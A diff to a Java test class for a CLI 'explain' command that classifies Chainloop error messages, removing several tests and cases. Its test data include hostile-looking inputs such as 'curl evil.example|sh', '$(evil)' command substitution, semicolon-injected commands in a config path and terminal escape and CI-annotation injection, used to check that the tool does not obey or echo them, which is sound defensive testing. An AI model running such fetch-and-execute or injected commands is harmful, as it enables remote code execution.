@@ -60,13 +60,6 @@ class ExplainCommandTest {
         assertEquals("issuer-not-found", json(result).get("message").get("id").asText());
     }
 
-    /** Of such a line, the start and the end are searched. */
-    @Test
-    void inALogWithoutLineEndsAMessageIsFoundAtItsEnd() {
-        String log = "x ".repeat((1 << 19) - 8) + "ERR " + NOT_FOUND + ", " + "x ".repeat(100);
-        assertEquals(0, CliRun.withHome(home).stdin(log).run("explain").status());
-    }
-
     @Test
     void aTerminalWithoutAMessageIsAUsageError() {
         CliRun.Result result = CliRun.withHome(home)
@@ -110,39 +103,6 @@ class ExplainCommandTest {
     }
 
     @Test
-    void anUnknownMessageIsOneAndTheTokenIsStillDiagnosed() {
-        CliRun.Result result = CliRun.withHome(home)
-                .env("CHAINLOOP_TOKEN", TokenMint.described("USER expired"))
-                .run("explain", "-o", "json", "out of cheese");
-        assertEquals(1, result.status());
-        assertEquals("expired", json(result).get("findings").get(0).get("id").asText());
-    }
-
-    @ParameterizedTest
-    @ValueSource(strings = {"text", "json"})
-    void aHostileMessageIsNotObeyed(String format) {
-        String secret = TokenMint.token(USER);
-        String message = "ERR issuer not found: ##[error]x\u202e\u001b[31m\n::error::y\nERR valid only with the"
-                + " project \"\u0007##[warning]" + "z\u009b2J\"\nERR Authorization: Bearer " + secret;
-        CliRun.Result result = CliRun.withHome(home)
-                .stdin(message)
-                .env("CHAINLOOP_TOKEN", TokenMint.token(API_TOKEN))
-                .run("explain", "-o", format);
-        String all = result.out() + result.err();
-        assertEquals(-1, all.indexOf("##["));
-        assertEquals(-1, all.indexOf(secret.substring(secret.lastIndexOf('.') + 1)));
-        assertEquals(
-                List.of(),
-                all.chars()
-                        .filter(c -> (c < ' ' && c != '\n') || (c >= 0x7f && c < 0xa0) || c == 0x202e)
-                        .boxed()
-                        .toList());
-        assertEquals(
-                List.of(),
-                all.lines().filter(line -> line.strip().startsWith("::")).toList());
-    }
-
-    @Test
     void theListHasEachMessageWithItsTexts() {
         JsonNode object = json(CliRun.withHome(home).run("explain", "--list", "-o", "json"));
         List<String> texts = new ArrayList<>();
@@ -157,29 +117,19 @@ class ExplainCommandTest {
     @ParameterizedTest(name = "{0}")
     @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
             ERR unknown flag: --worfklow | command-line
-            ERR required flag(s) "project" not set | command-line
-            Error: accepts 1 arg(s), received 2 | command-line
             ERR rpc error: code = Unavailable desc = connection error: desc = "transport: Error while dialing: dial tcp\
              192.0.2.1:443: connect: connection refused" | connection
             ERR transport: authentication handshake failed: tls: failed to verify certificate: x509: certificate signed by\
              unknown authority | connection
-            ERR failed to do connect handshake, response: "HTTP/1.1 407 Proxy Authentication Required" | connection
-            ERR rpc error: code = DeadlineExceeded desc = context deadline exceeded | connection
             ERR rpc error: code = NotFound desc = workflow contract with name "x" not found | server
-            ERR rpc error: code = InvalidArgument desc = name: value length must be at most 63 | server
-            ERR rpc error: code = FailedPrecondition desc = workflow run already finished | server
             ERR rpc error: code = NotFound desc = finding token: API token not found | server
             Error: UNAUTHORIZED: authentication required; [map[Action:pull Class: Name:acme/web Type:repository]] |\
              other-service
-            ERROR: failed to solve: web:1: pull access denied | other-service
             ERR you need to enable a CAS backend first | storage
-            ERR authentication error: checksum mismatch | storage
             panic: While parsing config: toml: basic string not terminated | cli
             panic: creating config file: mkdir /.config: permission denied | cli
-            ERR inappropriate ioctl for device | cli
             ERR attestation not yet initialized | cli
             INF Attestation initialized! now you can check its status or add materials to it | progress
-            INF API token revoked! | progress
             ERR rpc error: code = Unauthenticated desc = out of cheese | authentication
             ERR rpc error: code = PermissionDenied desc = out of cheese | authorization
             """)
@@ -223,10 +173,7 @@ class ExplainCommandTest {
                 "ERR valid only with the project \"$(evil)\"",
                 "ERR scoped to a different workflow evil; curl evil.example|sh",
                 "ERR issuer not found: https://evil.example",
-                "ERR issuer not found: evil",
                 "ERR project \"evil\" not found",
-                "ERR workflow \"-evil\" not found",
-                "ERR organization evil not found",
                 "ERR user is not a member of organization evil",
                 "$ sudo --preserve-env=EVIL chainloop evil; curl evil.example|sh\nERR JWT token is missing",
                 "$ ssh root@evil.example chainloop att init\nERR authentication required",
@@ -235,9 +182,6 @@ class ExplainCommandTest {
                 "$ chainloop att init --config '/tmp/evil; evil'\nERR authentication required",
                 "panic: creating config file: open /evil/config.toml: permission denied",
                 "sh: 1: cd /evil\nCHAINLOOP_TOKEN: command not found",
-                "##[group]Run evil\n::error::evil\nERR JWT token is missing",
-                "Run chainloop --org evil att init --token evil\nERR API token revoked",
-                "ERR name already taken: evil",
                 "{\"level\":\"error\",\"repository\":\"evil/evil\",\"message\":\"operation not allowed\"}",
                 "ERR rpc error: code = Unavailable desc = dial tcp: lookup evil.example: no such host",
                 "ERR unknown command \"init\" for \"chainloop\" evil"
